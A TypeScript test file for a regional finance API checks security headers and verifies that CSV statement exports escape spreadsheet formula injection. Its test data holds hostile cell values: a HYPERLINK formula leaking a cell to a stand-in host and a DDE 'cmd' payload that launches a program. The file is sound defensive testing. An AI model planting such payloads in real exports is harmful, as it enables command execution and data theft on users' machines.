import { parse } from 'csv-parse/sync';
import { commandsOf, startApi, TestApi } from '../support/api';

describe('every answer carries the security and version headers', () => {
  let api: TestApi;

  beforeAll(async () => {
    api = await startApi(['holland-rijnland.jsonl']);
    api.token('elsewhere', { actor: 'g1', role: 'municipality', municipality: 'GM9901' });
  });
  afterAll(() => api.close());

  it.each([
    ['a statement', '/api/v1/regions/holland-rijnland/statements/2024', 'admin', 200, 'private, no-cache'],
    [
      'a CSV statement',
      '/api/v1/regions/holland-rijnland/statements/2024?format=csv',
      'admin',
      200,
      'private, no-cache',
    ],
    ['a workbook', '/api/v1/regions/holland-rijnland/statements/2024?format=xlsx', 'admin', 200],
    ['a journal', '/api/v1/regions/holland-rijnland/export?format=hledger', 'admin', 200],
    ['a 400', '/api/v1/regions/holland-rijnland/statements/0x7e8', 'admin', 400],
    ['a 401', '/api/v1/regions', undefined, 401],
    ['a 403', '/api/v1/regions/holland-rijnland/statements/2024', 'elsewhere', 403],
    ['a 404', '/api/v1/nothing', 'admin', 404],
    ['the health check', '/health', undefined, 200],
    ['the OpenAPI document', '/openapi.json', undefined, 200],
    ['the documentation page', '/docs', undefined, 200],
  ])('%s', async (_, path, role, status, cacheControl = 'no-store') => {
    const call = api.http.get(path);
    if (role) call.set(api.as(role));
    const response = await call;
    expect(response.status).toBe(status);
    expect(response.headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      // a statement with an ETag may be kept by the asker and revalidated (statement-etag.e2e-spec); nothing else
      'cache-control': cacheControl,
      'api-version': '1.0.0',
      'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
    });
    if (path.startsWith('/api/')) expect(response.headers['content-security-policy']).toMatch(/default-src 'none'/);
  });

  it('/health names the kind of store, not its file', async () => {
    const body = (await api.http.get('/health').expect(200)).body;
    expect(body).toEqual({ status: 'ok', store: 'sqlite' });
    expect(JSON.stringify(body)).not.toContain(api.dir);
  });
});

describe('CSV statements are safe to open in a spreadsheet', () => {
  let api: TestApi;
  const hostile = {
    GM9901: '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    GM9902: "-2+3+cmd|' /C calc'!A0",
    GM9903: '@SUM(1+1)',
    GM9904: '+31 71 000 0000',
  };

  beforeAll(async () => {
    api = await startApi();
    const commands = commandsOf('aef-solidarity.jsonl')
      .filter((command) => command.regionId === 'aef-income')
      .map((command): Record<string, unknown> => ({ ...command, regionId: 'formules' }));
    commands[0] = {
      ...commands[0],
      municipalities: Object.entries(hostile).map(([code, name]) => ({ code, name })),
    };
    await api.http.post('/api/v1/commands').set(api.as('admin')).send(commands).expect(201);
  });
  afterAll(() => api.close());

  it.each([
    ['nl', '', { delimiter: ';', bom: true }, /^(-?\d+,\d{2})?$/],
    ['en', '&locale=en', { delimiter: ',' }, /^(-?\d+\.\d{2})?$/],
  ] as const)(
    'escapes names that a spreadsheet would run as formulas, and keeps amounts (negative ones too) numbers (%s)',
    async (_locale, query, options, amount) => {
      const csv = (
        await api.http
          .get(`/api/v1/regions/formules/statements/2025?format=csv${query}`)
          .set(api.as('admin'))
          .expect(200)
      ).text;
      const rows: string[][] = parse(csv, options);
      const [header, ...body] = rows;
      expect(header).toEqual(['jaar', 'sectie', 'regel', 'omschrijving', 'gemeente', 'naam', 'bedrag']);
      const names = new Set(body.map((row) => row[5]).filter(Boolean));
      expect([...names].sort()).toEqual(
        Object.values(hostile)
          .map((name) => `'${name}`)
          .sort(),
      );
      for (const row of body) {
        expect(row[6]).toMatch(amount);
        for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
      }
      const negative = body.filter((row) => row[6].startsWith('-'));
      expect(negative.length).toBeGreaterThan(0);
      expect(csv).toContain(`${options.delimiter}${negative[0][6]}\n`);
    },
  );
});
